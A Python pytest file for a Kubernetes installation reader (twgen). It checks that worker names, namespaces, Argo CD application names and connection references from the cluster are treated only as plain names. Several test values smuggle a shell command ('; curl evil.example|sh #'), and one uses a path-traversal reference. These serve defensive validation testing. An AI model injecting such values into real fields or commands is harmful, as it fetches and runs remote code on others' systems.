"""What is read of an installation names nothing that somebody else may have chosen to be more than a name."""

import asyncio
from collections.abc import Mapping
from dataclasses import replace
from typing import Any, cast

import pytest

from tests.planning.situations import SPEC
from twgen.clients.deadline import Deadline
from twgen.clients.kubernetes import KubernetesClient
from twgen.errors import StateUnavailable
from twgen.reading.installation.cluster import read_orphans
from twgen.reading.installation.installed import read_tick
from twgen.reading.objects import objects_to_import
from twgen.records.intent import intent_of


class Cluster:
    """An API server with lists of objects, by the end of their path."""

    def __init__(self, **lists: list[Mapping[str, Any]]) -> None:
        self.lists = lists
        self.asked: list[str] = []

    async def ask(self, _: str, path: str, *__: object, **___: object) -> tuple[int, Mapping[str, Any]]:
        self.asked.append(path)
        kind = path.rpartition("/")[2]
        return (200, {"items": self.lists[kind]}) if kind in self.lists else (404, {})

    async def deployments(self, *_: object) -> list[Mapping[str, Any]]:
        return []

    def client(self) -> KubernetesClient:
        return cast("KubernetesClient", self)


def version_of(worker: str, namespace: str) -> Mapping[str, Any]:
    labels = {"temporal.io/deployment-name": "payments", "temporal.io/build-id": "v1"}
    annotations = {
        "argocd.argoproj.io/tracking-id": "payments:apps/Deployment:prod/payments-v1",
        "argocd.argoproj.io/sync-options": "Prune=false,Delete=confirm",
        "twgen.io/identity": "twgen/prod",
    }
    variables = [{"name": "TEMPORAL_DEPLOYMENT_NAME", "value": worker}]
    template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "w", "env": variables}]}}
    return {
        "metadata": {"name": "d1", "namespace": namespace, "labels": labels, "annotations": annotations},
        "spec": {"replicas": 1, "selector": {"matchLabels": labels}, "template": template},
        "status": {},
    }


@pytest.mark.parametrize(
    ("worker", "namespace", "number"),
    [
        ("prod/payments", "prod", 1),
        ("prod/payments", "attacker", 0),
        ("prod/payments; curl evil.example|sh #", "prod", 0),
        ("noslash", "noslash", 0),
    ],
)
def test_deployment_speaks_for_no_worker_of_another_namespace(
    worker: str, namespace: str, number: int
) -> None:
    cluster = Cluster(deployments=[version_of(worker, namespace)])
    assert len(asyncio.run(read_orphans(cluster.client(), [""], (), Deadline(5)))) == number


def tick_of(namespace: str, looks_at: str) -> Mapping[str, Any]:
    variables = [{"name": "TWGEN_NAMESPACE", "value": looks_at}]
    pod = {"spec": {"containers": [{"name": "tick", "image": "twgen:1", "env": variables}]}}
    return {"metadata": {"name": "twgen-tick", "namespace": namespace}, "spec": {"template": pod}}


def test_tick_is_looked_at_only_where_there_is_one() -> None:
    alone = Cluster(deployments=[tick_of("twgen", "shop")], cronjobs=[])
    found = asyncio.run(read_tick(alone.client(), Deadline(5)))
    assert found
    assert (found.name, found.namespace) == ("Deployment twgen/twgen-tick", "shop")
    two = Cluster(deployments=[tick_of("attacker", "shop"), tick_of("twgen", "shop")], cronjobs=[])
    with pytest.raises(StateUnavailable, match="several: Deployment attacker/twgen-tick, Deployment"):
        asyncio.run(read_tick(two.client(), Deadline(5)))


def test_namespace_of_tick_is_a_name() -> None:
    odd = Cluster(deployments=[tick_of("twgen", "x; curl evil.example|sh #")], cronjobs=[])
    found = asyncio.run(read_tick(odd.client(), Deadline(5)))
    assert found
    assert found.namespace is None


@pytest.mark.parametrize(
    ("tracked", "application"),
    [
        ("payments", "payments"),
        ("team_payments", "team/payments"),
        ("x; curl evil.example|sh #", ""),
        ("a_b_c", ""),
        ("", ""),
    ],
)
def test_application_is_a_name_or_none(tracked: str, application: str) -> None:
    assert replace(intent_of(SPEC, "twgen/me"), application=tracked).argocd_name == application


def test_cluster_connection_is_asked_for_by_a_name_alone() -> None:
    reference = {"kind": "ClusterConnection", "name": "../../../../apis/apps/v1/namespaces/x/deployments/db"}
    metadata = {"name": "payments", "namespace": "shop"}
    worker = {"metadata": metadata, "spec": {"workerOptions": {"connectionRef": reference}}}
    cluster = Cluster(workerdeployments=[worker])
    asyncio.run(objects_to_import(cluster.client(), "shop", (), Deadline(5)))
    assert not [path for path in cluster.asked if ".." in path]
